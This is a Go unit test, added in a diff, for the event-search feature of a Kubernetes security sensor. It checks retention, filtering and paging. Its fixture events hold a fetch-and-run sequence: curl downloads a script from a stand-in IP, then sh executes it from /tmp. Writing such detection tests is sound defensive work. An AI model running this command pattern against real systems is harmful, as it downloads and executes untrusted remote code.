@@ -0,0 +1,56 @@
+package controller
+
+import (
+	"errors"
+	"testing"
+	"time"
+
+	"github.com/sirupsen/logrus"
+
+	"github.com/invisible-tech/autopilot-security-sensor/internal/config"
+	"github.com/invisible-tech/autopilot-security-sensor/internal/types"
+)
+
+func TestController_SearchEvents(t *testing.T) {
+	c := New(config.ControllerConfig{EventBufferSize: 10, AlertBufferSize: 10, EventRetentionCount: 3}, logrus.New())
+	base := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
+	for i, e := range []*types.SecurityEvent{
+		{ID: "e1", Type: "process_start", PodNamespace: "prod", PodName: "web-1", Process: &types.ProcessEventData{Name: "curl", Cmdline: []string{"curl", "http://203.0.113.9/x.sh"}}},
+		{ID: "e2", Type: "network_connection", PodNamespace: "prod", PodName: "web-1", Network: &types.NetworkEventData{DstIP: "203.0.113.9", DstPort: 80}},
+		{ID: "e3", Type: "file_modified", PodNamespace: "prod", PodName: "web-2", File: &types.FileEventData{Path: "/tmp/x.sh", Operation: "create"}},
+		{ID: "e4", Type: "process_start", PodNamespace: "dev", PodName: "job", Process: &types.ProcessEventData{Name: "sh", Cmdline: []string{"sh", "/tmp/X.sh"}}},
+	} {
+		e.Timestamp = base.Add(time.Duration(i) * time.Second)
+		c.retainEvent(e)
+	}
+
+	ids := func(hits []types.SearchHit) []string {
+		var out []string
+		for _, h := range hits {
+			out = append(out, h.ID)
+		}
+		return out
+	}
+	// e1 has been trimmed by retention and is no longer found.
+	hits, total, err := c.SearchEvents(types.SearchQuery{Text: "x.sh"})
+	if err != nil || total != 2 || len(hits) != 2 || hits[0].ID != "e4" || hits[1].ID != "e3" {
+		t.Fatalf("x.sh: %v, total %d, err %v", ids(hits), total, err)
+	}
+	if hits[0].Field != "process.cmdline" || hits[0].Value != "sh /tmp/X.sh" || hits[1].Field != "file.path" {
+		t.Errorf("fields = %+v", hits)
+	}
+	if hits, total, _ := c.SearchEvents(types.SearchQuery{Text: "203.0.113"}); total != 1 || hits[0].Field != "network.dst_ip" {
+		t.Errorf("dst ip: %v", ids(hits))
+	}
+	if hits, total, _ := c.SearchEvents(types.SearchQuery{Text: "sh", Namespace: "prod", Limit: 1}); total != 1 || ids(hits)[0] != "e3" {
+		t.Errorf("short term in prod: %v, total %d", ids(hits), total)
+	}
+	if hits, total, _ := c.SearchEvents(types.SearchQuery{Text: "x.sh", Offset: 1}); total != 2 || len(hits) != 1 || hits[0].ID != "e3" {
+		t.Errorf("offset: %v, total %d", ids(hits), total)
+	}
+
+	off := New(config.ControllerConfig{EventBufferSize: 10, AlertBufferSize: 10}, logrus.New())
+	if _, _, err := off.SearchEvents(types.SearchQuery{Text: "curl"}); !errors.Is(err, ErrSearchDisabled) {
+		t.Errorf("without retention: err = %v", err)
+	}
+}